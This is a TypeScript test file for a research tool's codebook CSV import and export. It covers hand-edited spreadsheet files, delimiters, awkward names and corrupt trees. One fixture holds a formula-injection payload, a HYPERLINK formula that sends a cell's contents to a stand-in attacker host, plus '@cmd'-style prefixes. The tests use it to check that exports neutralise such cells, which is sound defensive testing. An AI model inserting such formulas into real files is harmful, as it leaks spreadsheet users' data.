// The codebook CSV against the files researchers actually bring back: a spreadsheet that would run a
// code name as a formula, a quotation mark left open, blank rows, a "sep=" line, a semicolon file
// from a European Excel, names made of the path separator's characters, a corrupt tree.
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { codebookToCsv, parseCodebookCsv } from '../../../shared/codebook/codebookCsv';
import { planCodebookImport } from '../../../shared/codebook/codebookImport';
import { codeTree } from '../../../shared/codebook/codeTree';
import type { CodeRecord } from '../../../shared/model';
import { code, counter, replay } from './fixtures';

function importInto(codes: CodeRecord[], csv: string) {
  const plan = planCodebookImport(codes, parseCodebookCsv(csv), 'Codebook imported', counter());
  return { plan, codes: replay({ codes, codings: [], memos: [] }, plan.change).codes };
}

const outline = (codes: readonly CodeRecord[]) => codeTree(codes).map((e) => `${'  '.repeat(e.depth)}${e.code.name}`);

describe('codebook CSV opened in a spreadsheet', () => {
  const risky = () => [
    code('h', '=HYPERLINK("http://evil.example/?"&A1,"click")', null, 0, { definition: '+1 for every pledge', example: '-5% growth' }),
    code('c', '@cmd', 'h', 0, { inclusion: "'=already quoted", exclusion: '\tindented' }),
  ];

  test('no cell starts as a formula a spreadsheet would run', () => {
    const parsed = Papa.parse<string[]>(codebookToCsv(risky()), { skipEmptyLines: true });
    const cells = parsed.data.slice(1).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/u.test(cell))).toEqual([]);
  });

  test('importing the guarded export gives back every name and text exactly', () => {
    const { plan, codes } = importInto([], codebookToCsv(risky()));
    expect(plan.problems).toEqual([]);
    const fields = (list: readonly CodeRecord[]) =>
      codeTree(list).map(({ code: c, depth }) => [depth, c.name, c.definition, c.inclusion, c.exclusion, c.example]);
    expect(fields(codes)).toEqual(fields(risky()));
  });
});

describe('codebook CSV files edited by hand', () => {
  test('a quotation mark left open refuses the file, naming its row, instead of swallowing the rows after it', () => {
    const csv = 'name,definition\npledge,A promise\nclaim,"An assertion\ncriticism,A negative evaluation\nmetric,A figure\n';
    expect(() => parseCodebookCsv(csv)).toThrow(/row 3/u);
  });

  test('problems name the row a spreadsheet shows, blank rows counted', () => {
    const csv = 'name,color\r\npledge,#000000\r\n\r\n,\r\nclaim,blue\r\n';
    const { plan } = importInto([], csv);
    expect(plan.problems).toEqual([{ row: 5, message: '“blue” is not a colour (use #rrggbb); “claim” was imported without it.' }]);
  });

  test('a "sep=;" first line, as Excel reads and writes it, sets the delimiter', () => {
    const { plan, codes } = importInto([], 'sep=;\r\nname;definition\r\npledge;A promise, kept or not\r\nclaim;An assertion\r\n');
    expect(plan.problems).toEqual([]);
    expect(codes.map((c) => [c.name, c.definition])).toEqual([
      ['pledge', 'A promise, kept or not'],
      ['claim', 'An assertion'],
    ]);
  });

  test('a semicolon file from a European Excel, commas in its texts, blank line at the end', () => {
    const { plan, codes } = importInto([], 'Name;Parent path;Definition\r\nframing;;How, and why\r\neconomy;framing;Jobs, prices\r\n\r\n');
    expect(plan.problems).toEqual([]);
    expect(outline(codes)).toEqual(['framing', '  economy']);
    expect(codes.find((c) => c.name === 'economy')!.definition).toBe('Jobs, prices');
  });

  test('a row added with its path but a blank parent_path goes where its path says', () => {
    const csv = 'name,path,parent_path\r\nframing,framing,\r\neconomy,framing > economy,framing\r\njobs,framing > economy > jobs,\r\n';
    const { plan, codes } = importInto([], csv);
    expect(plan.problems).toEqual([]);
    expect(outline(codes)).toEqual(['framing', '  economy', '    jobs']);
  });

  test('a child whose parent row is in the file but could not be placed says so', () => {
    const csv = 'name,parent_path\neconomy,ghost\njobs,ghost > economy\n';
    const { plan } = importInto([], csv);
    expect(plan.problems).toEqual([
      { row: 2, message: 'its parent “ghost” is neither in the project nor in the file; “economy” was skipped.' },
      { row: 3, message: 'its parent “ghost > economy” (row 2) could not be imported either; “jobs” was skipped.' },
    ]);
  });
});

describe('codebook CSV round trips of awkward names and trees', () => {
  test('names with commas, quotes, line-ending-looking text, slashes and ">" come back under the right parents', () => {
    const codes = [
      code('a', 'claim/fact, "quoted"', null, 0),
      code('b', '->', 'a', 0),
      code('c', '> 50%', 'b', 0),
      code('d', 'a>b', 'c', 0),
    ];
    const { plan, codes: back } = importInto([], codebookToCsv(codes));
    expect(plan.problems).toEqual([]);
    expect(outline(back)).toEqual(outline(codes));
  });

  test('a code in a parent cycle is exported where the tree shows it, and comes back', () => {
    const corrupt = [code('a', 'alpha', 'b', 0), code('b', 'beta', 'a', 0), code('t', 'top', null, 1)];
    const { plan, codes } = importInto([], codebookToCsv(corrupt));
    expect(plan.problems).toEqual([]);
    expect(outline(codes)).toEqual(outline(corrupt));
  });

  test('a name written in decomposed accents (as macOS writes files) matches the code of that name', () => {
    const project = [code('c', 'caf\u00e9', null, 0)];
    const { plan } = importInto(project, 'name,definition\ncafe\u0301,Coffee\n');
    expect(plan).toMatchObject({ created: 0, updated: 1, problems: [] });
  });
});

describe('codebook CSV columns', () => {
  test('a column the import does not read is named in the report, not passed over in silence', () => {
    const { plan } = importInto([], 'name,memo,Coder\npledge,Kept for later,kim\n');
    expect(plan.problems).toEqual([{ row: 1, message: 'the columns “memo”, “Coder” are not read (Framewise reads name, path, parent_path, color, definition, inclusion, exclusion, example).' }]);
  });

  test('"colour" and "description" headings are read as the colour and the definition', () => {
    const { plan, codes } = importInto([], 'Name,Colour,Description\npledge,#123456,A commitment\n');
    expect(plan.problems).toEqual([]);
    expect(codes.map((c) => [c.name, c.color, c.definition])).toEqual([['pledge', '#123456', 'A commitment']]);
  });
});
